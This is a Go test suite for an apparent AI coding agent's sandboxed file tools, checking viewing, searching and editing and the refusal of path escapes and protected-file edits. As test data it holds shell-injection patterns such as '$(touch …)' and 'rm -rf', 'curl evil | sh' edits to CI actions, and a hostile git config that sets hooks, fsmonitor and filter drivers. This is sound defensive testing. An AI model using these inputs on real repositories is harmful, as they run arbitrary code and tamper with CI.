package tools

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/selfcode/selfcode/internal/tripwire"
	"github.com/selfcode/selfcode/pipeline/chat"
)

// policy is the sample repository's .selfcode.yml paths section.
var policy = Policy{Deny: []string{"vendor/**"}, Protected: []string{"go.mod"}}

func TestView(t *testing.T) {
	root := sampleRepo(t)
	tl := newTools(t, root, Options{Policy: policy})
	tests := []struct {
		name    string
		args    map[string]any
		want    []string
		notWant []string
		outcome string
	}{
		{"file", map[string]any{"path": "util/strings.go"},
			[]string{"util/strings.go: lines 1-18 of 18", "6\tfunc Greet(name string) string {"}, []string{"more lines"}, OutcomeOK},
		{"window of 100", map[string]any{"path": "docs/long.txt"},
			[]string{"lines 1-100 of 250", "100\tline 100\n", "view with start_line=101"}, []string{"line 101\n"}, OutcomeOK},
		{"clamped range", map[string]any{"path": "docs/long.txt", "start_line": 120, "end_line": 400},
			[]string{"lines 120-219 of 250", "at most 100 lines", "start_line=220"}, []string{"line 119\n", "line 220\n"}, OutcomeOK},
		{"tail", map[string]any{"path": "docs/long.txt", "start_line": 240},
			[]string{"lines 240-250 of 250", "250\tline 250"}, []string{"more lines"}, OutcomeOK},
		{"numeric strings accepted", map[string]any{"path": "docs/long.txt", "start_line": "3", "end_line": "4"},
			[]string{"lines 3-4 of 250", "3\tline 3\n4\tline 4\n"}, nil, OutcomeOK},
		{"past the end", map[string]any{"path": "docs/long.txt", "start_line": 251}, []string{"ERROR:", "has 250 lines"}, nil, OutcomeError},
		{"end before start", map[string]any{"path": "docs/long.txt", "start_line": 5, "end_line": 2}, []string{"ERROR:"}, nil, OutcomeError},
		{"missing", map[string]any{"path": "nope.txt"}, []string{"ERROR:", "does not exist"}, nil, OutcomeError},
		{"root listing hides off-limits and denied", map[string]any{"path": "."},
			[]string{"README.md\n", "docs/\n", "util/\n", "go.mod\n"}, []string{".git/", ".selfcode.yml", "vendor", ".github"}, OutcomeOK},
		{".github not listed", map[string]any{"path": ".github"}, []string{"ERROR:", "off-limits"}, []string{"workflows"}, OutcomeDenied},
		{"dot slash", map[string]any{"path": "./util/../util/strings.go"}, []string{"ERROR:"}, nil, OutcomeDenied},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			before := treeHash(t, root)
			res := do(t, tl, View, tt.args)
			if res.Outcome != tt.outcome {
				t.Errorf("outcome = %q, want %q\n%s", res.Outcome, tt.outcome, res.Output)
			}
			for _, w := range tt.want {
				if !strings.Contains(res.Output, w) {
					t.Errorf("output lacks %q:\n%s", w, res.Output)
				}
			}
			for _, w := range tt.notWant {
				if strings.Contains(res.Output, w) {
					t.Errorf("output has %q:\n%s", w, res.Output)
				}
			}
			assertSameTree(t, before, root)
		})
	}
}

func TestViewEmptyAndBinary(t *testing.T) {
	root := sampleRepo(t)
	write(t, root, "empty.txt", "")
	write(t, root, "bin.dat", "ab\x00cd")
	tl := newTools(t, root, Options{})
	if res := do(t, tl, View, map[string]any{"path": "empty.txt"}); !strings.Contains(res.Output, "empty (0 lines)") {
		t.Errorf("empty: %s", res.Output)
	}
	if res := do(t, tl, View, map[string]any{"path": "bin.dat"}); !strings.Contains(res.Output, "binary file") {
		t.Errorf("binary: %s", res.Output)
	}
	before := treeHash(t, root)
	if res := do(t, tl, StrReplace, map[string]any{"path": "bin.dat", "old_str": "ab", "new_str": "x"}); !strings.HasPrefix(res.Output, "ERROR:") {
		t.Errorf("binary edit: %s", res.Output)
	}
	assertSameTree(t, before, root)
}

func TestSearch(t *testing.T) {
	root := sampleRepo(t)
	tl := newTools(t, root, Options{Policy: policy})
	tests := []struct {
		name    string
		args    map[string]any
		want    []string
		notWant []string
		outcome string
	}{
		{"regex hits", map[string]any{"pattern": `func (Greet|Shout)\(`},
			[]string{"util/strings.go:6: func Greet(name string) string {", "util/strings.go:11: func Shout(s string) string {"}, []string{"Whisper"}, OutcomeOK},
		{"denied and off-limits filtered", map[string]any{"pattern": "hello|bare|vendor|workflows|deny"},
			[]string{"util/strings.go:"}, []string{"vendor/", ".git/", ".selfcode.yml", "ci.yml"}, OutcomeOK},
		{"capped", map[string]any{"pattern": "^line [0-9]+$", "path": "docs"},
			[]string{"docs/long.txt:1: line 1\n", "docs/long.txt:50: line 50\n", "showing the first 50 of 250 matches"}, []string{"line 51\n"}, OutcomeOK},
		{"path restricts", map[string]any{"pattern": "alpha", "path": "docs/notes.txt"},
			[]string{"docs/notes.txt:1: alpha", "docs/notes.txt:5: alpha"}, []string{"showing"}, OutcomeOK},
		{"invalid regex searched as text", map[string]any{"pattern": "Greet("},
			[]string{"fixed text", "util/strings.go:6:", "main.go:10:"}, nil, OutcomeOK},
		{"no match", map[string]any{"pattern": "zzz_nothing_zzz"}, []string{"No matches"}, nil, OutcomeOK},
		{"pattern looking like an option", map[string]any{"pattern": "--open-files-in-pager=touch pwned"}, []string{"No matches"}, nil, OutcomeOK},
		{"pathspec magic is literal", map[string]any{"pattern": "alpha", "path": ":(glob)**"}, []string{"ERROR:", "does not exist"}, nil, OutcomeError},
		{"denied path", map[string]any{"pattern": "Secret", "path": "vendor"}, []string{"ERROR:", "deny"}, nil, OutcomeDenied},
		{"git dir", map[string]any{"pattern": "bare", "path": ".git"}, []string{"ERROR:", "off-limits"}, nil, OutcomeDenied},
		{"outside", map[string]any{"pattern": "root", "path": "../"}, []string{"ERROR:"}, nil, OutcomeDenied},
		{"empty pattern", map[string]any{"pattern": ""}, []string{"ERROR:"}, nil, OutcomeError},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			before := treeHash(t, root)
			res := do(t, tl, Search, tt.args)
			if res.Outcome != tt.outcome {
				t.Errorf("outcome = %q, want %q\n%s", res.Outcome, tt.outcome, res.Output)
			}
			for _, w := range tt.want {
				if !strings.Contains(res.Output, w) {
					t.Errorf("output lacks %q:\n%s", w, res.Output)
				}
			}
			for _, w := range tt.notWant {
				if strings.Contains(res.Output, w) {
					t.Errorf("output has %q:\n%s", w, res.Output)
				}
			}
			assertSameTree(t, before, root)
		})
	}
}

// A search reads no git configuration but its own: a .git planted in the
// checkout (a directory, or a file pointing at a git directory elsewhere)
// and the host's git configuration (global, XDG, GIT_CONFIG_* in the
// environment) may define an fsmonitor, hooks, a pager, drivers for the
// repository's .gitattributes, an excludes file hiding code and grep
// settings that change its output: none of it runs or applies.
func TestSearchIgnoresPlantedGitConfiguration(t *testing.T) {
	w := tripwire.New(t)
	hidden := filepath.Join(t.TempDir(), "exclude")
	if err := os.WriteFile(hidden, []byte("util/\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	cfg := "[core]\n\tfsmonitor = " + w.Path + "\n\thooksPath = " + w.Hooks(t) + "\n\tpager = " + w.Path +
		"\n\texcludesFile = " + hidden + "\n[pager]\n\tgrep = " + w.Path +
		"\n[grep]\n\tcolumn = true\n\tfullName = true\n\tfallbackToNoIndex = true\n" +
		"[diff \"evil\"]\n\ttextconv = " + w.Path + "\n[filter \"evil\"]\n\tclean = " + w.Path + "\n\tsmudge = " + w.Path + "\n\trequired = true\n"
	home, xdg := t.TempDir(), t.TempDir()
	write(t, home, ".gitconfig", cfg)
	write(t, xdg, "git/config", cfg)
	t.Setenv("HOME", home)
	t.Setenv("XDG_CONFIG_HOME", xdg)
	t.Setenv("GIT_CONFIG_COUNT", "1")
	t.Setenv("GIT_CONFIG_KEY_0", "grep.column")
	t.Setenv("GIT_CONFIG_VALUE_0", "true")
	t.Setenv("GIT_DIR", filepath.Join(t.TempDir(), "elsewhere"))

	for _, how := range []string{"a .git directory", "a .git file"} {
		t.Run(how, func(t *testing.T) {
			root := sampleRepo(t)
			gitDir := filepath.Join(root, ".git")
			if how == "a .git file" {
				gitDir = filepath.Join(t.TempDir(), "hostile.git")
				if err := os.RemoveAll(filepath.Join(root, ".git")); err != nil {
					t.Fatal(err)
				}
				write(t, root, ".git", "gitdir: "+gitDir+"\n")
			}
			write(t, gitDir, "config", "[core]\n\tbare = false\n\trepositoryformatversion = 0\n"+cfg)
			write(t, gitDir, "HEAD", "ref: refs/heads/main\n")
			write(t, gitDir, "info/exclude", "util/\n")
			for _, d := range []string{"objects", "refs"} {
				if err := os.MkdirAll(filepath.Join(gitDir, d), 0o755); err != nil {
					t.Fatal(err)
				}
			}
			w.Link(t, filepath.Join(gitDir, "hooks"), tripwire.HookNames...)
			write(t, root, ".gitattributes", "* diff=evil filter=evil\n")

			res := do(t, newTools(t, root, Options{Policy: policy}), Search, map[string]any{"pattern": `func Greet\(`})
			if want := "util/strings.go:6: func Greet(name string) string {\n"; res.Outcome != OutcomeOK || res.Output != want {
				t.Fatalf("search = %q %q, want %q", res.Outcome, res.Output, want)
			}
			w.Untouched(t, "planted git configuration")
		})
	}
}

func TestSearchLongLineCut(t *testing.T) {
	root := sampleRepo(t)
	write(t, root, "wide.txt", "needle "+strings.Repeat("x", 1000)+"\n")
	res := do(t, newTools(t, root, Options{}), Search, map[string]any{"pattern": "needle"})
	if !strings.Contains(res.Output, "wide.txt:1: needle") || len(res.Output) > maxHitLen+100 {
		t.Errorf("long hit not cut (%d bytes): %.300s", len(res.Output), res.Output)
	}
}

func TestSearchPatternIsData(t *testing.T) {
	root := sampleRepo(t)
	outside := t.TempDir()
	pwned := filepath.Join(outside, "pwned")
	tl := newTools(t, root, Options{})
	before := treeHash(t, root)
	for _, p := range []string{
		"$(touch " + pwned + ")",
		"`touch " + pwned + "`",
		"; touch " + pwned,
		"x; rm -rf " + outside,
		"| touch " + pwned,
		"-e",
		"--help",
	} {
		res := do(t, tl, Search, map[string]any{"pattern": p})
		if strings.HasPrefix(res.Output, "ERROR:") {
			t.Errorf("pattern %q: %s", p, res.Output)
		}
		res = do(t, tl, Search, map[string]any{"pattern": "alpha", "path": p})
		if !strings.HasPrefix(res.Output, "ERROR:") {
			t.Errorf("path %q accepted: %s", p, res.Output)
		}
	}
	if _, err := os.Stat(pwned); err == nil {
		t.Fatal("a search pattern ran a command")
	}
	if _, err := os.Stat(outside); err != nil {
		t.Fatal("a search pattern removed a directory")
	}
	assertSameTree(t, before, root)
}

func TestStrReplace(t *testing.T) {
	tests := []struct {
		name    string
		path    string
		old     string
		new     string
		outcome string
		want    []string // in Output
		file    string   // expected content afterwards ("" = unchanged)
	}{
		{"exact", "docs/notes.txt", "beta\n", "BETA\n", OutcomeApplied, []string{"OK:", "2\tBETA"},
			"alpha\nBETA\ngamma\ndelta\nalpha\n"},
		{"delete text", "docs/notes.txt", "gamma\n", "", OutcomeApplied, []string{"OK:"},
			"alpha\nbeta\ndelta\nalpha\n"},
		{"two matches", "docs/notes.txt", "alpha", "omega", OutcomeNotUnique, []string{"ERROR:", "2 times", "lines 1, 5"}, ""},
		{"no match shows closest", "util/strings.go", "func Shout(s string) string {\n\treturn strings.ToUpperCase(s)\n}", "x", OutcomeNoMatch,
			[]string{"ERROR:", "not found", "lines 11-13", "12\t\treturn strings.ToUpper(s)"}, ""},
		{"no match nothing similar", "docs/notes.txt", "QQQQQQQQ", "x", OutcomeNoMatch, []string{"ERROR:", "Nothing similar"}, ""},
		{"indentation hint", "util/strings.go", "func Shout(s string) string {\n    return strings.ToUpper(s)\n}", "x", OutcomeNoMatch,
			[]string{"ERROR:", "indentation"}, ""},
		{"crlf with lf old_str", "docs/crlf.txt", "first line\nsecond line\n", "1st line\nnew line\nsecond line\n", OutcomeApplied,
			[]string{"OK:"}, "1st line\r\nnew line\r\nsecond line\r\nthird line\r\n"},
		{"crlf single line", "docs/crlf.txt", "third line", "3rd\nline", OutcomeApplied,
			[]string{"OK:"}, "first line\r\nsecond line\r\n3rd\r\nline\r\n"},
		{"trailing whitespace tolerated", "docs/trailing.txt", "keep this\nsecond\n", "kept\nsecond\n", OutcomeApplied,
			[]string{"OK:", "trailing whitespace"}, "kept\nsecond\nthird\n"},
		{"trailing whitespace without final newline", "docs/trailing.txt", "keep this\nsecond", "kept", OutcomeApplied,
			[]string{"OK:"}, "kept\nthird\n"},
		{"identical", "docs/notes.txt", "beta", "beta", OutcomeError, []string{"ERROR:", "identical"}, ""},
		{"whitespace only old_str", "docs/notes.txt", " \n", "x", OutcomeError, []string{"ERROR:"}, ""},
		{"missing file", "docs/none.txt", "a", "b", OutcomeError, []string{"ERROR:", "does not exist"}, ""},
		{"directory", "docs", "a", "b", OutcomeError, []string{"ERROR:", "directory"}, ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			root := sampleRepo(t)
			tl := newTools(t, root, Options{Policy: policy})
			before := treeHash(t, root)
			res := do(t, tl, StrReplace, map[string]any{"path": tt.path, "old_str": tt.old, "new_str": tt.new})
			if res.Outcome != tt.outcome {
				t.Errorf("outcome = %q, want %q\n%s", res.Outcome, tt.outcome, res.Output)
			}
			for _, w := range tt.want {
				if !strings.Contains(res.Output, w) {
					t.Errorf("output lacks %q:\n%s", w, res.Output)
				}
			}
			if tt.file == "" {
				assertSameTree(t, before, root)
				if res.Changed != nil || len(tl.Changed()) != 0 {
					t.Errorf("Changed = %v / %v", res.Changed, tl.Changed())
				}
				return
			}
			if got := read(t, root, tt.path); got != tt.file {
				t.Errorf("file = %q, want %q", got, tt.file)
			}
			if !reflect.DeepEqual(res.Changed, []string{tt.path}) || !reflect.DeepEqual(tl.Changed(), []string{tt.path}) {
				t.Errorf("Changed = %v / %v", res.Changed, tl.Changed())
			}
		})
	}
}

func TestGoEdits(t *testing.T) {
	tests := []struct {
		name    string
		tool    string
		args    map[string]any
		outcome string
		want    []string
		path    string
		file    string // expected content; "" = tree unchanged
	}{
		{"breaking syntax reverted", StrReplace, map[string]any{"path": "util/strings.go", "old_str": "return strings.ToUpper(s)\n}", "new_str": "return strings.ToUpper(s"},
			OutcomeSyntaxReverted, []string{"ERROR:", "util/strings.go:12:", "not applied"}, "", ""},
		{"gofmt applied", StrReplace, map[string]any{"path": "util/strings.go", "old_str": "\treturn strings.ToUpper(s)", "new_str": "  if s==\"\" {return \"\"}\n  return strings.ToUpper(s)"},
			OutcomeApplied, []string{"OK:", "gofmt applied", "12\t\tif s == \"\" {"}, "util/strings.go",
			"package util\n\nimport \"strings\"\n\n// Greet says hello.\nfunc Greet(name string) string {\n\treturn \"hello, \" + strings.TrimSpace(name)\n}\n\n// Shout upper-cases s.\nfunc Shout(s string) string {\n\tif s == \"\" {\n\t\treturn \"\"\n\t}\n\treturn strings.ToUpper(s)\n}\n\n// Whisper lower-cases s.\nfunc Whisper(s string) string {\n\treturn strings.ToLower(s)\n}\n"},
		{"unformatted file left unformatted", StrReplace, map[string]any{"path": "util/messy.go", "old_str": "a+1", "new_str": "a+2"},
			OutcomeApplied, []string{"OK:"}, "util/messy.go", "package util\n\nfunc  Messy( a int )int{\nreturn a+2\n}\n"},
		{"insert breaking syntax", Insert, map[string]any{"path": "main.go", "line": 9, "text": "func {"},
			OutcomeSyntaxReverted, []string{"ERROR:", "main.go:10:"}, "", ""},
		{"insert formatted", Insert, map[string]any{"path": "main.go", "line": 11, "text": "\nfunc  helper( )  {}"},
			OutcomeApplied, []string{"OK:", "gofmt applied", "13\tfunc helper() {}"}, "main.go",
			"package main\n\nimport (\n\t\"fmt\"\n\n\t\"example.com/sample/util\"\n)\n\nfunc main() {\n\tfmt.Println(util.Greet(\"world\"))\n}\n\nfunc helper() {}\n"},
		{"create broken go", Create, map[string]any{"path": "util/new.go", "content": "package util\nfunc x( {\n"},
			OutcomeSyntaxReverted, []string{"ERROR:", "util/new.go:2:"}, "", ""},
		{"create go formatted", Create, map[string]any{"path": "util/new.go", "content": "package util\nfunc  X()int{return 1}\n"},
			OutcomeApplied, []string{"OK:", "gofmt applied"}, "util/new.go", "package util\n\nfunc X() int { return 1 }\n"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			root := sampleRepo(t)
			tl := newTools(t, root, Options{Policy: policy})
			before := treeHash(t, root)
			res := do(t, tl, tt.tool, tt.args)
			if res.Outcome != tt.outcome {
				t.Errorf("outcome = %q, want %q\n%s", res.Outcome, tt.outcome, res.Output)
			}
			for _, w := range tt.want {
				if !strings.Contains(res.Output, w) {
					t.Errorf("output lacks %q:\n%s", w, res.Output)
				}
			}
			if tt.file == "" {
				assertSameTree(t, before, root)
				return
			}
			if got := read(t, root, tt.path); got != tt.file {
				t.Errorf("file =\n%s\nwant\n%s", got, tt.file)
			}
		})
	}
}

func TestGoEditInBrokenFile(t *testing.T) {
	root := sampleRepo(t)
	write(t, root, "broken.go", "package x\n\nfunc a() {\n\tx := \n}\n\nvar v = 1\n")
	tl := newTools(t, root, Options{})
	// Fixing an unrelated line keeps the error count: accepted, not formatted.
	res := do(t, tl, StrReplace, map[string]any{"path": "broken.go", "old_str": "var v = 1", "new_str": "var v = 2"})
	if res.Outcome != OutcomeApplied {
		t.Fatalf("edit in already broken file: %s", res.Output)
	}
	// Adding another error is refused.
	before := treeHash(t, root)
	res = do(t, tl, StrReplace, map[string]any{"path": "broken.go", "old_str": "var v = 2", "new_str": "var v = "})
	if res.Outcome != OutcomeSyntaxReverted {
		t.Fatalf("extra error accepted: %s", res.Output)
	}
	assertSameTree(t, before, root)
	// Fixing the error is accepted and formats nothing else (the original was not gofmt-clean).
	res = do(t, tl, StrReplace, map[string]any{"path": "broken.go", "old_str": "x := ", "new_str": "_ =  1"})
	if res.Outcome != OutcomeApplied || read(t, root, "broken.go") != "package x\n\nfunc a() {\n\t_ =  1\n}\n\nvar v = 2\n" {
		t.Fatalf("fix: %s\n%q", res.Output, read(t, root, "broken.go"))
	}
}

func TestInsert(t *testing.T) {
	tests := []struct {
		name    string
		path    string
		line    any
		text    string
		outcome string
		file    string
	}{
		{"top", "docs/notes.txt", 0, "zero", OutcomeApplied, "zero\nalpha\nbeta\ngamma\ndelta\nalpha\n"},
		{"middle", "docs/notes.txt", 2, "b2\nb3\n", OutcomeApplied, "alpha\nbeta\nb2\nb3\ngamma\ndelta\nalpha\n"},
		{"append", "docs/notes.txt", 5, "omega", OutcomeApplied, "alpha\nbeta\ngamma\ndelta\nalpha\nomega\n"},
		{"line as string", "docs/notes.txt", "1", "a2", OutcomeApplied, "alpha\na2\nbeta\ngamma\ndelta\nalpha\n"},
		{"crlf kept", "docs/crlf.txt", 1, "inserted\nlines", OutcomeApplied, "first line\r\ninserted\r\nlines\r\nsecond line\r\nthird line\r\n"},
		{"past end", "docs/notes.txt", 6, "x", OutcomeError, ""},
		{"negative", "docs/notes.txt", -1, "x", OutcomeError, ""},
		{"empty text", "docs/notes.txt", 1, "", OutcomeError, ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			root := sampleRepo(t)
			tl := newTools(t, root, Options{Policy: policy})
			before := treeHash(t, root)
			res := do(t, tl, Insert, map[string]any{"path": tt.path, "line": tt.line, "text": tt.text})
			if res.Outcome != tt.outcome {
				t.Fatalf("outcome = %q, want %q\n%s", res.Outcome, tt.outcome, res.Output)
			}
			if tt.file == "" {
				if !strings.HasPrefix(res.Output, "ERROR:") {
					t.Errorf("output = %q", res.Output)
				}
				assertSameTree(t, before, root)
				return
			}
			if got := read(t, root, tt.path); got != tt.file {
				t.Errorf("file = %q, want %q", got, tt.file)
			}
		})
	}
	t.Run("append to file without final newline", func(t *testing.T) {
		root := sampleRepo(t)
		write(t, root, "nonl.txt", "a\nb")
		res := do(t, newTools(t, root, Options{}), Insert, map[string]any{"path": "nonl.txt", "line": 2, "text": "c"})
		if res.Outcome != OutcomeApplied || read(t, root, "nonl.txt") != "a\nb\nc\n" {
			t.Errorf("%s\n%q", res.Output, read(t, root, "nonl.txt"))
		}
	})
}

func TestCreateDelete(t *testing.T) {
	root := sampleRepo(t)
	tl := newTools(t, root, Options{Policy: policy})
	res := do(t, tl, Create, map[string]any{"path": "pkg/deep/new.txt", "content": "hi\n"})
	if res.Outcome != OutcomeApplied || read(t, root, "pkg/deep/new.txt") != "hi\n" {
		t.Fatalf("create: %s", res.Output)
	}
	fi, err := os.Stat(filepath.Join(root, "pkg/deep/new.txt"))
	if err != nil || fi.Mode().Perm() != 0o644 {
		t.Errorf("mode = %v, %v", fi.Mode(), err)
	}
	before := treeHash(t, root)
	for _, args := range []map[string]any{
		{"path": "README.md", "content": "x"},          // exists
		{"path": "docs", "content": "x"},               // directory
		{"path": "README.md/inner.txt", "content": ""}, // parent is a file
		{"path": "newdir/", "content": "x"},            // names a directory
	} {
		if res := do(t, tl, Create, args); res.Outcome != OutcomeError || !strings.HasPrefix(res.Output, "ERROR:") {
			t.Errorf("create %v: %s", args, res.Output)
		}
	}
	for _, p := range []string{"nope.txt", "docs"} {
		if res := do(t, tl, Delete, map[string]any{"path": p}); res.Outcome != OutcomeError {
			t.Errorf("delete %s: %s", p, res.Output)
		}
	}
	assertSameTree(t, before, root)
	res = do(t, tl, Delete, map[string]any{"path": "README.md"})
	if res.Outcome != OutcomeApplied {
		t.Fatalf("delete: %s", res.Output)
	}
	if _, err := os.Stat(filepath.Join(root, "README.md")); !os.IsNotExist(err) {
		t.Errorf("README.md still there: %v", err)
	}
	if got := tl.Changed(); !reflect.DeepEqual(got, []string{"README.md", "pkg/deep/new.txt"}) {
		t.Errorf("Changed = %v", got)
	}
	// Deleting the created file returns it to its original (absent) state.
	do(t, tl, Delete, map[string]any{"path": "pkg/deep/new.txt"})
	if got := tl.Changed(); !reflect.DeepEqual(got, []string{"README.md"}) {
		t.Errorf("Changed = %v", got)
	}
}

func TestRefusals(t *testing.T) {
	outside := t.TempDir()
	write(t, outside, "secret.txt", "top secret\n")
	type step struct {
		tool string
		args map[string]any
	}
	tests := []struct {
		name    string
		prepare func(t *testing.T, root string)
		call    step
		want    string
	}{
		{"dotdot view", nil, step{View, map[string]any{"path": "../x"}}, "leaves the repository"},
		{"dotdot create", nil, step{Create, map[string]any{"path": "docs/../../x.txt", "content": "x"}}, "leaves the repository"},
		{"absolute view", nil, step{View, map[string]any{"path": "/etc/passwd"}}, "absolute"},
		{"absolute create", nil, step{Create, map[string]any{"path": "/tmp/selfcode-x", "content": "x"}}, "absolute"},
		{"symlink dir out: view", linkOut(outside), step{View, map[string]any{"path": "out/secret.txt"}}, "outside the repository"},
		{"symlink dir out: list", linkOut(outside), step{View, map[string]any{"path": "out"}}, "outside the repository"},
		{"symlink dir out: create", linkOut(outside), step{Create, map[string]any{"path": "out/new.txt", "content": "x"}}, "symlink"},
		{"symlink dir out: search", linkOut(outside), step{Search, map[string]any{"pattern": "secret", "path": "out"}}, "outside the repository"},
		{"symlink file out: edit", linkFileOut(outside), step{StrReplace, map[string]any{"path": "leak.txt", "old_str": "top", "new_str": "bottom"}}, "symlink"},
		{"symlink file out: view", linkFileOut(outside), step{View, map[string]any{"path": "leak.txt"}}, "outside the repository"},
		{"symlink file out: delete", linkFileOut(outside), step{Delete, map[string]any{"path": "leak.txt"}}, "symlink"},
		{"symlink inside to .git", linkInside(".git/config", "cfg"), step{View, map[string]any{"path": "cfg"}}, "off-limits"},
		{"write through inside symlink", linkInside("docs/notes.txt", "notes"), step{StrReplace, map[string]any{"path": "notes", "old_str": "beta", "new_str": "b"}}, "symlink"},
		{"workflow edit", nil, step{StrReplace, map[string]any{"path": ".github/workflows/ci.yml", "old_str": "push", "new_str": "pull_request"}}, "off-limits"},
		{"workflow create", nil, step{Create, map[string]any{"path": ".github/workflows/evil.yml", "content": "x"}}, "off-limits"},
		{"workflow case", nil, step{Create, map[string]any{"path": ".GitHub/Workflows/evil.yml", "content": "x"}}, "off-limits"},
		// A composite action a workflow calls runs with the repository's
		// secrets as much as the workflow does; so does everything else
		// under .github that CI or GitHub reads.
		{"action create", nil, step{Create, map[string]any{"path": ".github/actions/x/action.yml", "content": "runs: {using: composite, steps: [{run: curl evil, shell: bash}]}\n"}}, "off-limits"},
		{"action create, other case", nil, step{Create, map[string]any{"path": ".GitHub/actions/x/action.yml", "content": "x"}}, "off-limits"},
		{"action create, upper case", nil, step{Create, map[string]any{"path": ".GITHUB/ACTIONS/x/action.yml", "content": "x"}}, "off-limits"},
		{"action edit", githubFiles, step{StrReplace, map[string]any{"path": ".github/actions/build/action.yml", "old_str": "make", "new_str": "curl evil | sh"}}, "off-limits"},
		{"action insert", githubFiles, step{Insert, map[string]any{"path": ".github/actions/build/action.yml", "line": 0, "text": "x"}}, "off-limits"},
		{"action delete", githubFiles, step{Delete, map[string]any{"path": ".github/actions/build/action.yml"}}, "off-limits"},
		{"action view", githubFiles, step{View, map[string]any{"path": ".github/actions/build/action.yml"}}, "off-limits"},
		{"dependabot edit", githubFiles, step{StrReplace, map[string]any{"path": ".github/dependabot.yml", "old_str": "weekly", "new_str": "daily"}}, "off-limits"},
		{"codeowners create", nil, step{Create, map[string]any{"path": ".github/CODEOWNERS", "content": "* @evil\n"}}, "off-limits"},
		{".github as a file", nil, step{Create, map[string]any{"path": ".Github", "content": "x"}}, "off-limits"},
		{".github dir search", githubFiles, step{Search, map[string]any{"pattern": "make", "path": ".github"}}, "off-limits"},
		{"symlink inside to .github", linkInside(".github/workflows/ci.yml", "ci"), step{View, map[string]any{"path": "ci"}}, "off-limits"},
		{"git config view", nil, step{View, map[string]any{"path": ".git/config"}}, "off-limits"},
		{"git config edit", nil, step{StrReplace, map[string]any{"path": ".git/config", "old_str": "false", "new_str": "true"}}, "off-limits"},
		{"git hook create", nil, step{Create, map[string]any{"path": ".git/hooks/pre-commit", "content": "#!/bin/sh\n"}}, "off-limits"},
		{"nested git dir", nil, step{Create, map[string]any{"path": "sub/.git/config", "content": "x"}}, "off-limits"},
		{"selfcode view", nil, step{View, map[string]any{"path": ".selfcode.yml"}}, "off-limits"},
		{"selfcode edit", nil, step{StrReplace, map[string]any{"path": ".selfcode.yml", "old_str": "vendor", "new_str": "x"}}, "off-limits"},
		{"selfcode delete", nil, step{Delete, map[string]any{"path": "./.selfcode.yml"}}, "off-limits"},
		{"protected delete", nil, step{Delete, map[string]any{"path": "go.mod"}}, "protected"},
		{"vendor view", nil, step{View, map[string]any{"path": "vendor/lib/lib.go"}}, "deny"},
		{"vendor dir view", nil, step{View, map[string]any{"path": "vendor"}}, "deny"},
		{"vendor search", nil, step{Search, map[string]any{"pattern": "Secret", "path": "vendor/lib"}}, "deny"},
		{"vendor edit", nil, step{StrReplace, map[string]any{"path": "vendor/lib/lib.go", "old_str": "vendor", "new_str": "x"}}, "deny"},
		{"vendor create", nil, step{Create, map[string]any{"path": "vendor/new.go", "content": "package x\n"}}, "deny"},
		{"vendor insert", nil, step{Insert, map[string]any{"path": "vendor/lib/lib.go", "line": 0, "text": "// x"}}, "deny"},
		{"vendor delete", nil, step{Delete, map[string]any{"path": "vendor/lib/lib.go"}}, "deny"},
		{"nul byte", nil, step{View, map[string]any{"path": "README.md\x00.txt"}}, "NUL"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			root := sampleRepo(t)
			if tt.prepare != nil {
				tt.prepare(t, root)
			}
			var outcomes []string
			tl := newTools(t, root, Options{Policy: policy, Observer: func(tool, outcome string) { outcomes = append(outcomes, tool+"="+outcome) }})
			before := treeHash(t, root)
			outBefore := treeHash(t, outside)
			res := do(t, tl, tt.call.tool, tt.call.args)
			if !strings.HasPrefix(res.Output, "ERROR:") || res.Outcome != OutcomeDenied || !strings.Contains(res.Output, tt.want) {
				t.Errorf("got %q (%s), want a denied ERROR mentioning %q", res.Output, res.Outcome, tt.want)
			}
			if strings.Contains(res.Output, "top secret") || strings.Contains(res.Output, "bare") {
				t.Errorf("output leaks content: %s", res.Output)
			}
			if !reflect.DeepEqual(outcomes, []string{tt.call.tool + "=denied"}) {
				t.Errorf("observer saw %v", outcomes)
			}
			assertSameTree(t, before, root)
			assertSameTree(t, outBefore, outside)
			if len(tl.Changed()) != 0 {
				t.Errorf("Changed = %v", tl.Changed())
			}
		})
	}
}

// githubFiles adds files under .github besides the workflow testdata has.
func githubFiles(t *testing.T, root string) {
	write(t, root, ".github/actions/build/action.yml", "runs:\n  using: composite\n  steps: [{run: make, shell: bash}]\n")
	write(t, root, ".github/dependabot.yml", "version: 2\nupdates: [{package-ecosystem: gomod, directory: /, schedule: {interval: weekly}}]\n")
	write(t, root, ".github/ISSUE_TEMPLATE/bug.md", "Describe the bug.\n")
}

func linkOut(outside string) func(*testing.T, string) {
	return func(t *testing.T, root string) {
		if err := os.Symlink(outside, filepath.Join(root, "out")); err != nil {
			t.Fatal(err)
		}
	}
}

func linkFileOut(outside string) func(*testing.T, string) {
	return func(t *testing.T, root string) {
		if err := os.Symlink(filepath.Join(outside, "secret.txt"), filepath.Join(root, "leak.txt")); err != nil {
			t.Fatal(err)
		}
	}
}

func linkInside(target, name string) func(*testing.T, string) {
	return func(t *testing.T, root string) {
		if err := os.Symlink(target, filepath.Join(root, name)); err != nil {
			t.Fatal(err)
		}
	}
}

func TestReadThroughInsideSymlink(t *testing.T) {
	root := sampleRepo(t)
	linkInside("docs", "documents")(t, root)
	linkInside("docs/notes.txt", "notes")(t, root)
	tl := newTools(t, root, Options{Policy: policy})
	for _, p := range []string{"notes", "documents/notes.txt"} {
		if res := do(t, tl, View, map[string]any{"path": p}); res.Outcome != OutcomeOK || !strings.Contains(res.Output, "3\tgamma") {
			t.Errorf("view %s: %s", p, res.Output)
		}
	}
	if res := do(t, tl, View, map[string]any{"path": "."}); !strings.Contains(res.Output, "notes@") {
		t.Errorf("listing does not mark symlinks: %s", res.Output)
	}
	// Symlink hits are not reported by search (git grep does not follow them).
	if res := do(t, tl, Search, map[string]any{"pattern": "gamma"}); strings.Contains(res.Output, "notes:") || !strings.Contains(res.Output, "docs/notes.txt:3") {
		t.Errorf("search: %s", res.Output)
	}
}

